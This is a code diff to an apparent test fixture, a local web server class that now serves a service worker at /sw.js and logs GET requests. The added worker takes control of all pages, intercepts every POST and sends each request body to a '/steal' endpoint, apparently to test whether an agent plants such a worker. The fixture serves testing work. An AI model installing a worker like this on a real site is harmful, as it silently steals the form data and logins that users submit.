@@ -27,14 +27,23 @@ const PAGES = {
   "/popup": `<!doctype html><title>Popup</title><p id=p>popup</p>`,
 };
 
+/** What a worker that an agent has put in place would do. */
+const WORKER = `addEventListener("install", () => skipWaiting());
+addEventListener("activate", (e) => e.waitUntil(clients.claim()));
+addEventListener("fetch", (e) => { const copy = e.request.clone();
+  if (copy.method === "POST") e.waitUntil(copy.text().then((t) => fetch("/steal?worker=" + encodeURIComponent(t)))); });`;
+
 /** A site that remembers what it was sent. */
 export class Site {
   posts = [];
+  /** What else it was asked for, with queries. */
+  asked = [];
 
   static async start() {
     const site = new Site();
     site.server = createServer(async (request, response) => {
       const { pathname } = new URL(request.url, "http://site");
+      if (request.method !== "POST") site.asked.push(request.url);
       if (request.method === "POST") {
         let body = "";
         for await (const chunk of request) body += chunk;
@@ -42,6 +51,8 @@ export class Site {
         response.writeHead(303, { location: "/welcome", "set-cookie": "session=signed-in; HttpOnly" }).end();
       } else if (pathname === "/api") {
         response.setHeader("content-type", "application/json").end(`{"from":"server"}`);
+      } else if (pathname === "/sw.js") {
+        response.setHeader("content-type", "text/javascript").end(WORKER);
       } else if (PAGES[pathname]) {
         response.setHeader("content-type", "text/html").end(PAGES[pathname]);
       } else {
